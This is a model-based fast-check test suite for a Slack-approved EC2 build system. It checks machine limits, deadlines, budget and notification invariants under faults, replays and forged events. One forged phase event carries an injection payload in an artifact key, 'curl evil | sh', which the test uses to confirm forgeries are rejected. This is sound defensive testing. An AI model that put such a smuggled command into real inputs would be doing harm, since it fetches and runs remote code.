import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Build, InstanceState } from '../../domain/build';
import { isActive, isFinal, isRunning } from '../../domain/build';
import { LAUNCH_SETTLE_MS, finalSince } from '../../domain/slot-holding';
import { artifactKey, artifactVersion, logKey } from '../../domain/artifact-layout';
import { APPROVER, REQUESTER } from '../../stand-ins/slack-api';
import { buildPhase, ec2StateChange, scheduled, SHA256 } from '../support/event-fixtures';
import type { ModelWorld } from './world';
import type { Roster } from './world';
import { MODEL_BUDGET_USD, SECOND_APPROVER, envelopeOf, startModelWorld } from './world';
import { costSoFar, costToDeadline, isCostFinal, launchableMax } from '../../domain/build-facts';
import { monthOf } from '../../domain/spend';
import { aMonthOfBuilds, countedBuilds } from '../support/counted-builds';

// The model-based test of docs/design.md "Threat model" and "Delivery semantics": random
// schedules of people (requests, approvals by several users at once, denials, cancels, Extend
// clicks), machines (EC2 state changes, duplicated, late and reordered; phases honest and
// forged), faults (Slack failures and lost answers, DynamoDB lost answers, budget holds whose
// answers are lost while clicks race, the month ledger failing for a while, no capacity for the
// first instance type so a dearer fallback is launched), a month of 1,500 counted builds, and
// watchdog runs with the clock moving (from two hours before a month turns, or to its last
// minutes), while Slack answers,
// throttles every call (429, Retry-After) or cannot be reached, each run frozen at its Lambda
// timeout, over the real handlers, dynalite and the stand-ins. After every step the
// invariants are checked against the stand-ins' own records: EC2's machines, Slack's messages,
// SNS's mails, and the table.
//
// MODEL_RUNS and MODEL_SEED replay or lengthen it: a failure prints its seed and path. `npm test`
// runs 40 schedules (about 20 s, a fifth of the whole suite's CPU at 100); .ci/run adds a run of
// 300 on top, where a few minutes more buy far more paths than a developer's every run needs.

const RUNS = Number(process.env.MODEL_RUNS ?? 40);
const SEED = process.env.MODEL_SEED === undefined ? undefined : Number(process.env.MODEL_SEED);
const MAX = 1;
/** The watchdog's orphan grace (15 min) plus one run. */
const ORPHAN_GRACE_MS = 16 * 60_000;
const LIVE: readonly InstanceState[] = ['pending', 'running', 'stopping', 'stopped'];

interface Delivery {
  kind: 'launch' | 'cancel' | 'ec2' | 'phase';
  event: unknown;
}

/** What the test keeps beside the real system: which events wait for (re)delivery. */
interface Real {
  w: ModelWorld;
  pending: Delivery[];
  /** Bot events already turned into deliveries. */
  busSeen: number;
  /** EC2 states already turned into state-change events. */
  ec2Seen: Map<string, InstanceState>;
  /** When each machine was first seen no longer live (by the handlers' clock). */
  goneAt: Map<string, number>;
}

type Model = Record<string, never>;

async function buildAt(real: Real, index: number): Promise<Build | undefined> {
  const builds = (await real.w.builds()).sort((a, b) => (a.CreatedAt < b.CreatedAt ? -1 : 1));
  return builds.length === 0 ? undefined : builds[index % builds.length];
}

/** The bot's puts and EC2's state changes since the last step, as deliveries waiting. */
function collect(real: Real): void {
  const entries = real.w.bus.entries;
  for (const e of entries.slice(real.busSeen)) real.pending.push({ kind: e.detailType === 'Build Approved' ? 'launch' : 'cancel', event: envelopeOf(e) });
  real.busSeen = entries.length;
  for (const i of real.w.events.ec2.instances.values()) {
    if (real.ec2Seen.get(i.id) === i.state) continue;
    real.ec2Seen.set(i.id, i.state);
    if (!LIVE.includes(i.state) && !real.goneAt.has(i.id)) real.goneAt.set(i.id, real.w.events.clock.now().getTime());
    real.pending.push({ kind: 'ec2', event: ec2StateChange(i.id, i.state, real.w.events.clock.now().toISOString()) });
  }
}

async function deliver(real: Real, d: Delivery): Promise<boolean> {
  const h = real.w.handlers;
  const run = { launch: h.launch, cancel: h.cancel, ec2: h.instanceState, phase: h.buildPhase }[d.kind];
  try {
    await run(d.event);
    return true;
  } catch {
    // A transient failure: EventBridge delivers it again later.
    return false;
  }
}

// ---- commands -------------------------------------------------------------------------------

/** Each step acts, then the new deliveries are collected and every invariant is checked. */
abstract class Step implements fc.AsyncCommand<Model, Real> {
  check(): boolean {
    return true;
  }
  async run(_m: Model, real: Real): Promise<void> {
    await this.act(real);
    collect(real);
    await checkInvariants(real, this instanceof Watchdog);
  }
  abstract act(real: Real): Promise<void>;
  abstract toString(): string;
}

class Request extends Step {
  constructor(readonly branch: string) {
    super();
  }
  async act(real: Real) {
    await real.w.command(`${this.branch} abc1234`, REQUESTER);
  }
  toString() {
    return `request(${this.branch})`;
  }
}

class Click extends Step {
  constructor(
    readonly action: 'approve_build' | 'deny_build' | 'cancel_build' | 'extend_build',
    readonly build: number,
    readonly users: readonly string[],
    /** The approval rules the click meets: they may change between two clicks on one card. */
    readonly roster: Roster = 'plain',
  ) {
    super();
  }
  async act(real: Real) {
    const b = await buildAt(real, this.build);
    if (!b) return;
    await Promise.all(this.users.map((u) => real.w.click(this.action, b.BuildID, u, this.roster)));
  }
  toString() {
    return `${this.action}(#${this.build} by ${this.users.join('+')}${this.roster === 'plain' ? '' : `, ${this.roster}`})`;
  }
}

/** A click sent before is sent again, the same signed body (a replay within Slack's 5 minutes). */
class Replay extends Step {
  constructor(readonly index: number) {
    super();
  }
  async act(real: Real) {
    const items = () => real.w.events.dynamo.items();
    const before = await items();
    const busBefore = real.w.bus.entries.length;
    const replayed = await real.w.replay(this.index);
    if (!replayed) return;
    // A click changes nothing when it comes again: it was handled once (its claim is in the
    // table), or refused, and is refused again the same way. No record, no event.
    expect(await items(), `replay of ${replayed.claim} changed the table`).toEqual(before);
    expect(real.w.bus.entries.length, `replay of ${replayed.claim} put an event`).toBe(busBefore);
  }
  toString() {
    return `replay(${this.index})`;
  }
}

/**
 * Several approvals at once while the launch runs: every table call of every handler waits for
 * fc.scheduler, which picks their order, and `Build Approved` is delivered the moment it is put.
 */
class ApproveDuringLaunch extends Step {
  constructor(
    readonly build: number,
    readonly users: readonly string[],
    readonly s: fc.Scheduler,
    /** Which of the clicks' budget holds (in the order they are made) lose their answers: the click fails after its slot was taken. */
    readonly lostHolds: readonly boolean[],
  ) {
    super();
  }
  async act(real: Real) {
    const b = await buildAt(real, this.build);
    if (!b) return;
    const launches: Promise<unknown>[] = [];
    let holds = 0;
    real.w.gate.before = async (call) => {
      await this.s.schedule(Promise.resolve(), call);
      if (call === 'ledger.hold' && this.lostHolds[holds++]) throw Object.assign(new Error('the budget hold’s answer was lost'), { name: 'TimeoutError' });
    };
    real.w.gate.onApproved = (event) => launches.push(real.w.handlers.launch(event).catch(() => undefined));
    try {
      const clicks = Promise.all(this.users.map((u) => real.w.click('approve_build', b.BuildID, u)));
      await this.s.waitFor(clicks);
      await this.s.waitFor(real.w.bus.idle().then(() => Promise.all(launches)));
    } finally {
      delete real.w.gate.before;
      delete real.w.gate.onApproved;
    }
  }
  toString() {
    const lost = this.lostHolds.flatMap((l, i) => (l ? [i + 1] : []));
    return `approve during launch(#${this.build} by ${this.users.join('+')}${lost.length ? `, budget holds ${lost.join('+')} lost` : ''}) ${this.s.report().length} scheduled calls`;
  }
}

class Deliver extends Step {
  constructor(
    readonly index: number,
    readonly keepCopy: boolean,
  ) {
    super();
  }
  async act(real: Real) {
    if (real.pending.length === 0) return;
    const i = this.index % real.pending.length;
    const d = real.pending[i]!;
    const ok = await deliver(real, d);
    // At least once: delivered again until it succeeds, and sometimes once more besides.
    if (ok && !this.keepCopy) real.pending.splice(i, 1);
  }
  toString() {
    return `deliver(${this.index}${this.keepCopy ? ', again later' : ''})`;
  }
}

/** EC2 moves a machine on: pending → running, shutting-down → terminated, or the runner powers it off. */
class Machine extends Step {
  constructor(
    readonly index: number,
    readonly powerOff: boolean,
  ) {
    super();
  }
  async act(real: Real) {
    const machines = [...real.w.events.ec2.instances.values()];
    if (machines.length === 0) return;
    const m = machines[this.index % machines.length]!;
    if (this.powerOff && LIVE.includes(m.state)) m.state = 'shutting-down';
    else if (m.state === 'pending') m.state = 'running';
    else if (m.state === 'shutting-down') m.state = 'terminated';
  }
  toString() {
    return `machine(${this.index}, ${this.powerOff ? 'power off' : 'advance'})`;
  }
}

type Forgery = 'none' | 'wrong-token' | 'other-instance' | 'future-time' | 'foreign-key';

class Phase extends Step {
  constructor(
    readonly build: number,
    readonly phase: 'cloning' | 'building' | 'uploading' | 'completed' | 'failed',
    readonly forgery: Forgery,
  ) {
    super();
  }
  async act(real: Real) {
    const b = await buildAt(real, this.build);
    if (!b?.InstanceID) return;
    const now = real.w.events.clock.now().toISOString();
    const version = artifactVersion(b.BuildBranch, b.BuildCommit) ?? '0.0.0-abc1234';
    const honest = {
      buildId: b.BuildID,
      instanceId: b.InstanceID,
      phase: this.phase,
      at: now,
      ...(this.phase === 'completed'
        ? {
            artifact: { bucket: real.w.deps.config.artifactBucket, key: artifactKey(b.BuildID, version), sha256: SHA256, bytes: 1024 },
            logKey: logKey(b.BuildID),
          }
        : {}),
      ...(this.phase === 'failed' ? { message: 'packer failed', logKey: logKey(b.BuildID) } : {}),
    };
    const forged =
      this.forgery === 'wrong-token'
        ? { ...honest, eventToken: 'f'.repeat(64) }
        : this.forgery === 'other-instance'
          ? { ...honest, instanceId: 'i-0badbadbadbadbad0' }
          : this.forgery === 'foreign-key' && this.phase === 'completed'
            ? { ...honest, artifact: { ...honest.artifact!, key: 'x.ova . ; curl evil | sh ; echo' } }
            : honest;
    const event = buildPhase(forged);
    if (this.forgery === 'none' || this.forgery === 'future-time') {
      const dated = this.forgery === 'future-time' ? buildPhase({ ...honest, at: '2036-01-01T00:00:00.000Z' }) : event;
      real.pending.push({ kind: 'phase', event: dated });
      return;
    }
    if (this.forgery === 'foreign-key' && this.phase !== 'completed') return;
    // A forgery changes nothing: not the record, not Slack, not SNS.
    const before = JSON.stringify(await real.w.events.get(b.BuildID));
    const slackCalls = real.w.events.slack.calls.length;
    const mails = real.w.events.published().length;
    await real.w.handlers.buildPhase(event).catch(() => undefined);
    expect(JSON.stringify(await real.w.events.get(b.BuildID)), `forged phase (${this.forgery}) changed the record`).toBe(before);
    expect(real.w.events.slack.calls.length, 'forged phase reached Slack').toBe(slackCalls);
    expect(real.w.events.published().length, 'forged phase sent mail').toBe(mails);
  }
  toString() {
    return `phase(#${this.build} ${this.phase}${this.forgery === 'none' ? '' : `, ${this.forgery}`})`;
  }
}

class Fault extends Step {
  constructor(readonly kind: 'slack-fails' | 'slack-answer-lost' | 'dynamo-answers-lost') {
    super();
  }
  async act(real: Real) {
    if (this.kind === 'slack-fails') real.w.events.slack.failNext('chat.postMessage', 'internal_error');
    else if (this.kind === 'slack-answer-lost') real.w.events.slack.loseAnswerOfNext('chat.postMessage');
    else real.w.proxy.loseNext(2);
  }
  toString() {
    return this.kind;
  }
}

/** What Slack does for a whole watchdog run: answers, throttles every call, or cannot be reached. */
type SlackWeather = 'up' | 'throttled' | 'down';

/**
 * A watchdog run as Lambda runs it, frozen at its timeout: the Lambda's minute is scaled down to
 * LAMBDA_TIMEOUT_MS of real time, and a throttling Slack asks for more than that (Slack's
 * Retry-After can exceed a minute): a run that waits on Slack even once cannot finish.
 */
const LAMBDA_TIMEOUT_MS = 5_000;
const RETRY_AFTER_S = 6;

class Watchdog extends Step {
  constructor(
    readonly advanceMinutes: number,
    readonly twoAtOnce: boolean,
    readonly slack: SlackWeather = 'up',
  ) {
    super();
  }
  async act(real: Real) {
    const clock = real.w.events.clock;
    clock.set(new Date(clock.now().getTime() + this.advanceMinutes * 60_000).toISOString());
    if (this.slack === 'throttled') real.w.events.slack.throttle(RETRY_AFTER_S);
    if (this.slack === 'down') real.w.events.slack.unreachable(true);
    try {
      const run = () => real.w.watchdogInvocation(scheduled(clock.now().toISOString()), LAMBDA_TIMEOUT_MS);
      const runs = await Promise.all(this.twoAtOnce ? [run(), run()] : [run()]);
      // (f) safety never waits on Slack: a run requests every termination before its first Slack call.
      for (const { order } of runs) {
        const firstSlack = order.indexOf('slack');
        expect(
          firstSlack === -1 ? [] : order.slice(firstSlack).filter((c) => c === 'terminate'),
          `a termination after a Slack call: ${order.join(' ')}`,
        ).toEqual([]);
      }
    } finally {
      real.w.events.slack.throttle(undefined);
      real.w.events.slack.unreachable(false);
    }
  }
  toString() {
    return `watchdog(+${this.advanceMinutes} min${this.twoAtOnce ? ', two at once' : ''}${this.slack === 'up' ? '' : `, Slack ${this.slack}`})`;
  }
}

/** The month ledger fails for its next few calls, whichever handler makes them. */
class LedgerOutage extends Step {
  constructor(readonly calls: number) {
    super();
  }
  async act(real: Real) {
    real.w.ledgerOutage(this.calls);
  }
  toString() {
    return `ledger down for ${this.calls} calls`;
  }
}

/** EC2 has no c5n.metal anywhere (or has again): the launch falls back to m5zn.metal, dearer. */
class Capacity extends Step {
  constructor(readonly short: boolean) {
    super();
  }
  async act(real: Real) {
    if (this.short) real.w.events.ec2.refuse('c5n.metal', undefined, 'InsufficientInstanceCapacity');
    else real.w.events.ec2.refuseNoMore();
  }
  toString() {
    return this.short ? 'no c5n.metal capacity' : 'capacity back';
  }
}

/** A month of 1,500 builds counted already (a cent each): the month's figures come from MonthIndex. */
const CROWD = 1500;
class Crowd extends Step {
  async act(real: Real) {
    const month = monthOf(real.w.events.clock.now());
    // Money the budget decisions saw: counted before this schedule approved anything, as a month's
    // earlier builds are. Seeded after an approval it would be spend no decision could have known.
    if ((await real.w.builds()).some((b) => b.ApprovedAt !== undefined)) return;
    if ((await real.w.events.dynamo.ledger.read(month)).counted.length >= CROWD) return;
    const builds = aMonthOfBuilds(CROWD).map((b, i) => ({ ...b, buildId: `build-${month.replace('-', '')}01-crowd-${i}`, cost: 0.01 }));
    await countedBuilds(real.w.events.dynamo, month, builds);
  }
  toString() {
    return `${CROWD} counted builds this month`;
  }
}

/** The clock moves to five minutes before the month turns, when that is less than a day ahead. */
class MonthEnd extends Step {
  async act(real: Real) {
    const now = real.w.events.clock.now();
    const turn = Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 1);
    if (turn - now.getTime() < 5 * 60_000 || turn - now.getTime() > 24 * 3600_000) return;
    real.w.events.clock.set(new Date(turn - 5 * 60_000).toISOString());
  }
  toString() {
    return 'clock to the month’s last five minutes';
  }
}

// ---- invariants -----------------------------------------------------------------------------

async function checkInvariants(real: Real, afterWatchdog: boolean): Promise<void> {
  const w = real.w;
  const now = w.events.clock.now().getTime();
  const builds = await w.builds();
  const byId = new Map(builds.map((b) => [b.BuildID, b]));
  const live = [...w.events.ec2.instances.values()].filter((i) => LIVE.includes(i.state));
  const slots = new Set(await w.events.slots());

  // (a) never more live metal machines than MAX_CONCURRENT_BUILDS
  expect(live.length, `live machines: ${live.map((i) => `${i.id} of ${i.tags.BuildID}`).join(', ')}`).toBeLessThanOrEqual(MAX);

  for (const m of live) {
    const b = byId.get(m.tags.BuildID ?? '');
    // (f) whatever Slack did during the run (and however long it made the run), a watchdog run ends
    // the machine due: none is live more than 2 minutes past its DeadlineAt (orphans: (b)).
    if (afterWatchdog && b?.InstanceID === m.id && b.DeadlineAt !== undefined)
      expect(now - Date.parse(b.DeadlineAt), `machine ${m.id} of ${b.BuildID} (${b.Status}) is live past its deadline ${b.DeadlineAt}`).toBeLessThanOrEqual(
        2 * 60_000,
      );
    const accounted = b !== undefined && isRunning(b.Status) && b.InstanceID === m.id;
    // (c) a live machine's build holds a slot
    if (b) expect(slots.has(b.BuildID), `live machine ${m.id} of ${b.BuildID} (${b.Status}) has no slot`).toBe(true);
    // (b) every live machine belongs to an active build, or is ended within the orphan grace
    if (!accounted && afterWatchdog) {
      const since = b ? (finalSince(b) ?? now) : Date.parse(m.launchTime);
      expect(now - since, `machine ${m.id} of ${m.tags.BuildID} (${b?.Status ?? 'no record'}) outlived its grace`).toBeLessThanOrEqual(ORPHAN_GRACE_MS);
    }
  }

  // (j) the queue (docs/design.md "Concurrency"): its entries wait in approval order, each
  // launched at most once; after a watchdog run no build waits while a slot is free, and every
  // entry is a queued build (a place whose leave-queue was lost is gone).
  // Read directly, not through the lossy proxy the handlers use: the check must not lose answers.
  const set = await w.events.deps.store.slotSet();
  expect(new Set(set.queue).size, `a build queued twice: ${set.queue.join(', ')}`).toBe(set.queue.length);
  for (const id of set.queue) expect(slots.has(id), `${id} both holds a slot and waits for one`).toBe(false);
  if (afterWatchdog) {
    if (set.active.length < MAX) expect(set.queue, `a slot is free while builds wait`).toEqual([]);
    for (const id of set.queue) expect(byId.get(id)?.Status, `${id} waits in the queue`).toBe('queued');
  }
  for (const b of builds) {
    const machines = [...w.events.ec2.instances.values()].filter((i) => i.tags.BuildID === b.BuildID && i.tags.BuildID !== undefined);
    if (b.QueuedAt !== undefined) expect(machines.length, `queued build ${b.BuildID} launched ${machines.length} machines`).toBeLessThanOrEqual(1);
  }

  for (const b of builds) {
    // (c) approved or with a machine not yet gone: holds a slot
    if (b.Status === 'approved' || isRunning(b.Status)) expect(slots.has(b.BuildID), `${b.BuildID} is ${b.Status} without a slot`).toBe(true);
    // (d) each status told in the thread at most once
    const told = w.events.slack
      .replies(b.Channel, b.ThreadTs)
      .slice(1)
      .map((m) => m.metadata?.event_payload?.status)
      .filter((s): s is string => typeof s === 'string');
    const repeated = told.filter((s, i) => told.indexOf(s) !== i);
    expect(repeated, `${b.BuildID}: statuses told twice`).toEqual([]);
    // (d) each notice mailed at most once (no crash between publish and mark is injected)
    const subjects = w.events
      .published()
      .filter((p) => p.Subject?.includes(b.BuildID))
      .map((p) => p.Subject);
    const doubled = subjects.filter((s, i) => subjects.indexOf(s) !== i);
    expect(doubled, `${b.BuildID}: mailed twice`).toEqual([]);
  }

  await checkBudget(real, builds);

  // (c) no slot outlives its reason once the watchdog had a chance
  if (afterWatchdog)
    for (const id of slots) {
      const b = byId.get(id);
      if (!b || !isFinal(b.Status)) continue;
      const machines = [...w.events.ec2.instances.values()].filter((m) => m.tags.BuildID === id);
      if (machines.some((m) => LIVE.includes(m.state))) continue;
      // EC2's word that the machine is gone reaches the watchdog's next run at the latest.
      const gone = Math.max(0, ...machines.map((m) => real.goneAt.get(m.id) ?? now));
      const since = finalSince(b) ?? now;
      if (now - gone >= 60_000 && now - since > LAUNCH_SETTLE_MS + 60_000)
        expect.fail(`slot of ${id} (${b.Status}) kept ${Math.round((now - since) / 60_000)} min after it ended with no machine`);
    }
}

/**
 * What a build may cost its month, as the budget must have counted it: its final cost, or up to
 * its deadline (its type, its extensions), never what it costs past DeadlineAt (the model has no
 * Scheduler and moves the clock in large steps, so machines outlive deadlines by design); an
 * approved build not launched yet, the costliest type its launch may choose, in its approval's
 * month. undefined: the build commits nothing.
 */
function exposure(b: Build, config: ModelWorld['deps']['config'], now: Date): { month: string; cost: number } | undefined {
  if (b.LaunchTime) {
    const toDeadline = costToDeadline(b, config) ?? 0;
    const cost = isCostFinal(b) ? Math.min(costSoFar(b, { config, now }) ?? 0, toDeadline) : toDeadline;
    return { month: monthOf(b.LaunchTime), cost };
  }
  if (b.Status === 'approved') return { month: monthOf(b.ApprovedAt ?? b.CreatedAt), cost: launchableMax(config, b, b.CostMax) };
  return undefined;
}

/**
 * (g) no month's builds may cost more than MONTHLY_BUDGET_USD: every approval and extension that
 * landed was checked against spent + committed + its own maximum, so what the month's builds may
 * cost up to their deadlines (plus the counted builds no record of this schedule stands for)
 * stays within it, a cent of rounding per build aside.
 */
async function checkBudget(real: Real, builds: readonly Build[]): Promise<void> {
  const { config } = real.w.deps;
  const now = real.w.events.clock.now();
  const months = new Map<string, { cost: number; builds: string[] }>();
  const ours = new Set(builds.map((b) => b.BuildID));
  for (const b of builds) {
    const e = exposure(b, config, now);
    if (!e) continue;
    const m = months.get(e.month) ?? { cost: 0, builds: [] };
    // A counted build's cost is exact; the others' are figures rounded to the cent per decision.
    months.set(e.month, { cost: m.cost + e.cost, builds: b.CountedMonth ? m.builds : [...m.builds, `${b.BuildID} ${b.Status} ${e.cost.toFixed(2)}`] });
  }
  for (const [month, m] of months) {
    const before = (await real.w.events.dynamo.ledger.read(month)).counted.filter((c) => !ours.has(c.buildId)).reduce((sum, c) => sum + c.cost, 0);
    expect(before + m.cost, `${month} may cost more than its budget: ${m.builds.join(', ')} and ${before.toFixed(2)} counted before`).toBeLessThanOrEqual(
      MODEL_BUDGET_USD + 0.01 * m.builds.length,
    );
  }
}

/**
 * Once everything is delivered and the watchdog has run: (i) every ended build is counted once, at
 * its final cost, in its launch month; (h) no hold is more than its build may still cost, and a
 * hold whose build is counted, never launched or launched elsewhere is gone.
 */
async function checkBooks(real: Real): Promise<void> {
  const { config } = real.w.deps;
  const now = real.w.events.clock.now();
  const builds = await real.w.builds();
  const months = new Set<string>();
  for (const b of builds) {
    if (b.LaunchTime) months.add(monthOf(b.LaunchTime));
    if (b.ApprovedAt) months.add(monthOf(b.ApprovedAt));
    if (!isFinal(b.Status) || b.ActualCost === undefined || !b.LaunchTime) continue;
    expect({ month: b.CountedMonth, cost: b.CountedCost }, `${b.BuildID} (${b.Status}) counted`).toEqual({ month: monthOf(b.LaunchTime), cost: b.ActualCost });
  }
  const byId = new Map(builds.map((b) => [b.BuildID, b]));
  for (const month of months) {
    const ledger = await real.w.events.dynamo.ledger.read(month);
    const counted = ledger.counted.map((c) => c.buildId);
    expect(counted.length, `${month}: a build counted twice`).toBe(new Set(counted).size);
    for (const [buildId, hold] of Object.entries(ledger.holds)) {
      const b = byId.get(buildId);
      const mayCost =
        b === undefined
          ? 0
          : b.LaunchTime
            ? monthOf(b.LaunchTime) !== month || counted.includes(buildId)
              ? 0
              : isCostFinal(b)
                ? (costSoFar(b, { config, now }) ?? 0)
                : Math.max(costSoFar(b, { config, now }) ?? 0, costToDeadline(b, config) ?? 0)
            : isFinal(b.Status)
              ? 0
              : launchableMax(config, b, b.CostMax);
      expect(hold, `${month}: the hold of ${buildId} (${b?.Status ?? 'no record'}) is more than it may still cost`).toBeLessThanOrEqual(mayCost + 0.01);
    }
  }
}

/** Faults off, everything delivered, the clock run on: then every build is told its end. */
async function settle(real: Real): Promise<void> {
  real.w.proxy.losing = false;
  real.w.ledgerOutage(0);
  for (let round = 0; round < 6; round++) {
    collect(real);
    for (let i = 0; i < 50 && real.pending.length > 0; i++) {
      const d = real.pending.shift()!;
      if (!(await deliver(real, d))) real.pending.push(d);
      collect(real);
    }
    for (const m of real.w.events.ec2.instances.values()) {
      if (m.state === 'pending') m.state = 'running';
      if (m.state === 'shutting-down') m.state = 'terminated';
    }
    collect(real);
    await new Watchdog(10, false).run({}, real);
  }
  for (const b of await real.w.builds()) {
    if (isActive(b.Status)) continue;
    expect(b.NotifiedStatus, `${b.BuildID} ended ${b.Status} but the thread was not told`).toBe(b.Status);
  }
  await checkBooks(real);
}

const steps: fc.Arbitrary<fc.AsyncCommand<Model, Real>>[] = [
  fc.constantFrom('main', 'feature/x', 'v1.2.3').map((b) => new Request(b)),
  fc
    .tuple(fc.nat(3), fc.subarray([APPROVER, SECOND_APPROVER, APPROVER, SECOND_APPROVER], { minLength: 1 }))
    .map(([b, users]) => new Click('approve_build', b, users)),
  // Approvals while the rules change between clicks: two approvers needed, then one of them removed.
  fc
    .tuple(fc.nat(3), fc.constantFrom(APPROVER, SECOND_APPROVER), fc.constantFrom<Roster>('two-approvals', 'two-approvals-without-second'))
    .map(([b, user, roster]) => new Click('approve_build', b, [user], roster)),
  fc.nat(20).map((i) => new Replay(i)),
  // Twice: the race it stands for is where a second machine would come from.
  ...[1, 2].map(() =>
    fc
      .tuple(
        fc.nat(3),
        fc.subarray([APPROVER, SECOND_APPROVER, APPROVER, SECOND_APPROVER, APPROVER], { minLength: 2 }),
        fc.scheduler(),
        fc.array(fc.boolean(), { maxLength: 5 }),
      )
      .map(([b, users, s, lost]) => new ApproveDuringLaunch(b, users, s, lost)),
  ),
  fc.nat(3).map((b) => new Click('deny_build', b, [APPROVER])),
  fc.tuple(fc.nat(3), fc.constantFrom(REQUESTER, APPROVER)).map(([b, u]) => new Click('cancel_build', b, [u])),
  fc.tuple(fc.nat(3), fc.constantFrom(1, 2)).map(([b, n]) => new Click('extend_build', b, n === 1 ? [APPROVER] : [APPROVER, SECOND_APPROVER])),
  fc.tuple(fc.nat(20), fc.boolean()).map(([i, again]) => new Deliver(i, again)),
  fc.tuple(fc.nat(20), fc.boolean()).map(([i, again]) => new Deliver(i, again)),
  fc.tuple(fc.nat(5), fc.boolean()).map(([i, off]) => new Machine(i, off)),
  fc
    .tuple(
      fc.nat(3),
      fc.constantFrom('cloning', 'building', 'uploading', 'completed', 'failed' as const),
      fc.constantFrom<Forgery>('none', 'none', 'wrong-token', 'other-instance', 'future-time', 'foreign-key'),
    )
    .map(([b, p, f]) => new Phase(b, p, f)),
  fc.constantFrom('slack-fails', 'slack-answer-lost', 'dynamo-answers-lost' as const).map((k) => new Fault(k)),
  fc.constantFrom(1, 3, 8).map((n) => new LedgerOutage(n)),
  fc.boolean().map((short) => new Capacity(short)),
  fc.constant(new MonthEnd()),
  // Seldom (seeding takes a few seconds): the month's figures then sum 1,500 counted builds.
  fc.nat(7).chain((n) => (n === 0 ? fc.constant<Step>(new Crowd()) : fc.constant<Step>(new MonthEnd()))),
  fc
    .tuple(fc.constantFrom(1, 2, 5, 12, 40), fc.boolean(), fc.constantFrom<SlackWeather>('up', 'throttled', 'down'))
    .map(([m, two, slack]) => new Watchdog(m, two, slack)),
];

describe('money safety, model-based', () => {
  let w: ModelWorld;
  beforeAll(async () => {
    w = await startModelWorld();
  });
  afterAll(async () => {
    await w.close();
  });

  it(`holds its invariants over ${RUNS} random schedules`, async () => {
    await fc.assert(
      fc.asyncProperty(fc.commands(steps, { maxCommands: 18 }), async (cmds) => {
        await w.reset();
        const real: Real = { w, pending: [], busSeen: 0, ec2Seen: new Map(), goneAt: new Map() };
        // Every schedule starts with a build to act on; the random steps may request more.
        await new Request('main').run({}, real);
        await fc.asyncModelRun(() => ({ model: {}, real }), cmds);
        await settle(real);
      }),
      { numRuns: RUNS, ...(SEED !== undefined ? { seed: SEED } : {}), ...(process.env.MODEL_PATH ? { path: process.env.MODEL_PATH } : {}), verbose: 1 },
    );
  }, 600_000);
});
